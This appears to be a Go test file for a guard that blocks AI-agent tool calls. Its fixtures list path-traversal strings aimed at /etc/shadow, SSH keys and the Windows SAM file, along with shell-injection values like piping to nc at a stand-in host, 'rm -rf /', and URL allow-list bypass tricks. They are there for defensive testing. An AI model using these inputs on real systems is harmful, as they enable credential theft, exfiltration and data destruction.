package guard

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const testConfig = `{"rules":[
	{"name":"no-traversal","tools":["files__*"],"arguments":["path","paths.*"],
	 "pathTraversal":{"sensitiveRoots":["/etc","~/.ssh","C:\\Windows\\System32"]},
	 "message":"path traversal is not allowed"},
	{"name":"no-shell","tools":["shell__run"],"arguments":["command"],"shellMetacharacters":true,
	 "message":"one command, no chaining or redirection"},
	{"name":"fetch-allow-list","tools":["web__fetch","web__*_url"],"arguments":["url","headers.*"],
	 "urlAllowList":["example.com","*.example.org","[::1]"],"message":"only example.com and example.org"},
	{"name":"no-rm-rf","tools":["shell__*"],"regex":"rm\\s+-(rf|fr)\\b","message":"rm -rf is not allowed"},
	{"name":"no-dotenv","glob":"*.env","arguments":["file"],"message":"no .env files"},
	{"name":"no-port-22","tools":["net__*"],"arguments":["port"],"regex":"^22$","message":"not ssh"}
]}`

func TestCheck(t *testing.T) {
	g, err := New([]byte(testConfig))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, tool, args string
		rule             string // "" means allowed
	}{
		{name: "traversal", tool: "files__read", args: `{"path":"../../etc/passwd"}`, rule: "no-traversal"},
		{name: "traversal inside", tool: "files__read", args: `{"path":"docs/../../secret"}`, rule: "no-traversal"},
		{name: "traversal at the end", tool: "files__read", args: `{"path":"docs/.."}`, rule: "no-traversal"},
		{name: "backslashes", tool: "files__read", args: `{"path":"..\\..\\windows\\win.ini"}`, rule: "no-traversal"},
		{name: "percent-encoded", tool: "files__read", args: `{"path":"%2e%2e%2f%2e%2e%2fetc"}`, rule: "no-traversal"},
		{name: "double-encoded", tool: "files__read", args: `{"path":"%252e%252e%252fx"}`, rule: "no-traversal"},
		{name: "overlong UTF-8", tool: "files__read", args: `{"path":"%c0%ae%c0%ae/x"}`, rule: "no-traversal"},
		{name: "IIS %u", tool: "files__read", args: `{"path":"%u002e%u002e/x"}`, rule: "no-traversal"},
		{name: "JSON escape", tool: "files__read", args: `{"path":"\u002e\u002e/x"}`, rule: "no-traversal"},
		{name: "Tomcat ..;", tool: "files__read", args: `{"path":"a/..;/b"}`, rule: "no-traversal"},
		{name: "Windows trailing blanks", tool: "files__read", args: `{"path":"a/..  /b"}`, rule: "no-traversal"},
		{name: "array element", tool: "files__read", args: `{"paths":["ok.txt","../x"]}`, rule: "no-traversal"},
		{name: "sensitive root", tool: "files__read", args: `{"path":"/etc/shadow"}`, rule: "no-traversal"},
		{name: "sensitive root, slashes", tool: "files__read", args: `{"path":"//etc/./shadow"}`, rule: "no-traversal"},
		{name: "sensitive root, file URL", tool: "files__read", args: `{"path":"file:///etc/hosts"}`, rule: "no-traversal"},
		{name: "sensitive home root", tool: "files__read", args: `{"path":"~/.ssh/id_ed25519"}`, rule: "no-traversal"},
		{name: "drive root, any case", tool: "files__read", args: `{"path":"c:\\windows\\system32\\config\\SAM"}`, rule: "no-traversal"},
		{name: "after a command", tool: "files__read", args: `{"path":"cat ../x"}`, rule: "no-traversal"},
		{name: "after a flag", tool: "files__read", args: `{"path":"--file=../x"}`, rule: "no-traversal"},
		{name: "cd up and on", tool: "files__read", args: `{"path":"cd .. && ls"}`, rule: "no-traversal"},
		{name: "quoted", tool: "files__read", args: `{"path":"open('..')"}`, rule: "no-traversal"},
		{name: "relative path", tool: "files__read", args: `{"path":"docs/readme.md"}`},
		{name: "ellipsis in prose", tool: "files__read", args: `{"path":"wait... what.. ok"}`},
		{name: "dots in a file name", tool: "files__read", args: `{"path":"x-../y"}`},
		{name: "dots in names", tool: "files__read", args: `{"path":"a..b/...c/v1.2..3"}`},
		{name: "root's lookalike", tool: "files__read", args: `{"path":"/etcetera/x"}`},
		{name: "root below another", tool: "files__read", args: `{"path":"/home/me/etc/x"}`},
		{name: "another argument", tool: "files__read", args: `{"path":"a.txt","note":"../x"}`},
		{name: "another tool", tool: "git__show", args: `{"path":"../../etc/passwd"}`},

		{name: "shell chaining", tool: "shell__run", args: `{"command":"ls; cat /etc/passwd"}`, rule: "no-shell"},
		{name: "shell pipe", tool: "shell__run", args: `{"command":"ls | nc evil 1"}`, rule: "no-shell"},
		{name: "shell substitution", tool: "shell__run", args: `{"command":"echo $(id)"}`, rule: "no-shell"},
		{name: "shell backquote", tool: "shell__run", args: "{\"command\":\"echo `id`\"}", rule: "no-shell"},
		{name: "shell redirect", tool: "shell__run", args: `{"command":"echo x > /tmp/y"}`, rule: "no-shell"},
		{name: "shell newline", tool: "shell__run", args: `{"command":"ls\nid"}`, rule: "no-shell"},
		{name: "shell background", tool: "shell__run", args: `{"command":"sleep 1 &"}`, rule: "no-shell"},
		{name: "plain command", tool: "shell__run", args: `{"command":"ls -la $HOME"}`},
		{name: "rm -rf by regex", tool: "shell__exec", args: `{"argv":["rm","-rf","/"],"line":"rm -rf /"}`, rule: "no-rm-rf"},

		{name: "allowed host", tool: "web__fetch", args: `{"url":"https://example.com/a?b#c"}`},
		{name: "allowed subdomain", tool: "web__fetch", args: `{"url":"https://api.example.org:8443/x"}`},
		{name: "allowed, case and trailing dot", tool: "web__fetch", args: `{"url":"HTTPS://EXAMPLE.COM./"}`},
		{name: "allowed IPv6", tool: "web__fetch", args: `{"url":"http://[::1]:8080/"}`},
		{name: "other host", tool: "web__fetch", args: `{"url":"https://evil.com/"}`, rule: "fetch-allow-list"},
		{name: "userinfo trick", tool: "web__fetch", args: `{"url":"http://example.com@evil.com/"}`, rule: "fetch-allow-list"},
		{name: "userinfo with port trick", tool: "web__fetch", args: `{"url":"http://example.com:443@evil.com/"}`, rule: "fetch-allow-list"},
		{name: "backslash trick", tool: "web__fetch", args: `{"url":"http://evil.com\\@example.com/"}`, rule: "fetch-allow-list"},
		{name: "fragment trick", tool: "web__fetch", args: `{"url":"http://evil.com#@example.com"}`, rule: "fetch-allow-list"},
		{name: "suffix trick", tool: "web__fetch", args: `{"url":"https://example.com.evil.com/"}`, rule: "fetch-allow-list"},
		{name: "apex of a wildcard", tool: "web__fetch", args: `{"url":"https://example.org/"}`, rule: "fetch-allow-list"},
		{name: "no slashes", tool: "web__fetch", args: `{"url":"https:evil.com"}`, rule: "fetch-allow-list"},
		{name: "tab inside", tool: "web__fetch", args: `{"url":"http://example.com\t@evil.com"}`, rule: "fetch-allow-list"},
		{name: "encoded host", tool: "web__fetch", args: `{"url":"http://evil%2ecom/"}`, rule: "fetch-allow-list"},
		{name: "second URL in text", tool: "web__fetch", args: `{"url":"https://example.com/?next=https://evil.com"}`, rule: "fetch-allow-list"},
		{name: "other scheme", tool: "web__fetch", args: `{"url":"gopher://evil.com/"}`, rule: "fetch-allow-list"},
		{name: "header below a path", tool: "web__fetch", args: `{"url":"https://example.com","headers":{"Referer":"https://evil.com"}}`, rule: "fetch-allow-list"},
		{name: "not a URL", tool: "web__fetch", args: `{"url":"see docs: it works"}`},
		{name: "scheme-relative", tool: "web__fetch", args: `{"url":"//evil.com/x"}`, rule: "fetch-allow-list"},
		{name: "scheme-relative, backslashes", tool: "web__fetch", args: `{"url":"\\\\evil.com"}`, rule: "fetch-allow-list"},
		{name: "scheme-relative, allowed", tool: "web__fetch", args: `{"url":"//example.com/x"}`},
		{name: "tool glob", tool: "web__image_url", args: `{"url":"https://evil.com"}`, rule: "fetch-allow-list"},

		{name: "glob on every tool", tool: "any__tool", args: `{"file":"prod.env"}`, rule: "no-dotenv"},
		{name: "glob is whole-value", tool: "any__tool", args: `{"file":"prod.env.example"}`},
		{name: "number literal", tool: "net__connect", args: `{"host":"h","port":22}`, rule: "no-port-22"},
		{name: "other number", tool: "net__connect", args: `{"host":"h","port":220}`},
		{name: "no arguments", tool: "files__read", args: ``},
		{name: "null arguments", tool: "files__read", args: `null`},
		{name: "first rule in config order wins", tool: "shell__run", args: `{"command":"rm -rf / ; ls"}`, rule: "no-shell"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v, err := g.Check(tc.tool, []byte(tc.args))
			if err != nil {
				t.Fatal(err)
			}
			if v.Rule != tc.rule || v.Blocked != (tc.rule != "") {
				t.Errorf("Check(%q, %s) = %+v, want rule %q", tc.tool, tc.args, v, tc.rule)
			}
		})
	}
}

func TestCheckMessage(t *testing.T) {
	g, err := New([]byte(testConfig))
	if err != nil {
		t.Fatal(err)
	}
	v, err := g.Check("files__read", []byte(`{"path":"../../etc/passwd"}`))
	want := Verdict{Blocked: true, Rule: "no-traversal", Message: "path traversal is not allowed"}
	if err != nil || v != want {
		t.Errorf("Check = %+v, %v; want %+v", v, err, want)
	}
	g, err = New([]byte(`{"rules":[{"name":"r","shellMetacharacters":true}]}`))
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := g.Check("t", []byte(`{"a":";"}`)); v.Message != `blocked by guard rule "r"` {
		t.Errorf("default message %q", v.Message)
	}
}

func TestCheckRejectsMalformedArguments(t *testing.T) {
	for _, cfg := range []string{testConfig, ``} {
		g, err := New([]byte(cfg))
		if err != nil {
			t.Fatal(err)
		}
		for _, args := range []string{`[]`, `"x"`, `{`, `{"a":1,}`, `{"a":1} {}`} {
			if _, err := g.Check("files__read", []byte(args)); !errors.Is(err, ErrArguments) {
				t.Errorf("Check(%s) error %v, want ErrArguments", args, err)
			}
		}
	}
}

func TestNewErrors(t *testing.T) {
	for _, tc := range []struct {
		name, config string
		err          []string
	}{
		{name: "unknown top key", config: `{"rule":[]}`, err: []string{"guard: rule: unknown key"}},
		{name: "unknown rule key", config: `{"rules":[{"name":"a","regex":"x","mesage":"m"}]}`, err: []string{"rules[0] (a): mesage: unknown key"}},
		{name: "no name", config: `{"rules":[{"regex":"x"}]}`, err: []string{"rules[0]: name: missing"}},
		{name: "duplicate name", config: `{"rules":[{"name":"a","regex":"x"},{"name":"a","glob":"y"}]}`, err: []string{`rules[1] (a): name: "a" is also the name of rules[0]`}},
		{name: "no matcher", config: `{"rules":[{"name":"a"}]}`, err: []string{"rules[0] (a): no matcher"}},
		{name: "two matchers", config: `{"rules":[{"name":"a","regex":"x","glob":"y"}]}`, err: []string{"rules[0] (a): regex, glob: a rule has one matcher"}},
		{name: "bad regex", config: `{"rules":[{"name":"a","regex":"("}]}`, err: []string{"rules[0] (a): regex: error parsing regexp"}},
		{name: "bad glob", config: `{"rules":[{"name":"a","glob":"["}]}`, err: []string{"rules[0] (a): glob:"}},
		{name: "bad tool glob", config: `{"rules":[{"name":"a","regex":"x","tools":["[a"]}]}`, err: []string{"rules[0] (a): tools[0]"}},
		{name: "bad path", config: `{"rules":[{"name":"a","regex":"x","arguments":["a..b"]}]}`, err: []string{"rules[0] (a): arguments[0]"}},
		{name: "relative root", config: `{"rules":[{"name":"a","pathTraversal":{"sensitiveRoots":["etc"]}}]}`, err: []string{"rules[0] (a): pathTraversal: sensitiveRoots[0]"}},
		{name: "unknown preset key", config: `{"rules":[{"name":"a","pathTraversal":{"roots":["/etc"]}}]}`, err: []string{"roots: unknown key"}},
		{name: "false preset", config: `{"rules":[{"name":"a","shellMetacharacters":false}]}`, err: []string{"rules[0] (a): shellMetacharacters: want true"}},
		{name: "bad host", config: `{"rules":[{"name":"a","urlAllowList":["https://example.com"]}]}`, err: []string{"rules[0] (a): urlAllowList: [0]"}},
		{name: "wrong type", config: `{"rules":[{"name":"a","regex":"x","tools":"files__*"}]}`, err: []string{"rules[0] (a): tools: want []string"}},
		{name: "every error at once", config: `{"x":1,"rules":[{"name":"a"},{"name":"b","regex":"("}]}`, err: []string{"x: unknown key", "rules[0] (a)", "rules[1] (b)"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New([]byte(tc.config))
			if err == nil {
				t.Fatalf("New: no error, want %q", tc.err)
			}
			for _, want := range tc.err {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q\nlacks %q", err, want)
				}
			}
		})
	}
}

func TestNoRules(t *testing.T) {
	g, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	v, err := g.Check("files__read", []byte(`{"path":"../../etc/passwd"}`))
	if diff := cmp.Diff(Verdict{}, v); diff != "" || err != nil {
		t.Errorf("Check without rules: %v (-want +got):\n%s", err, diff)
	}
}
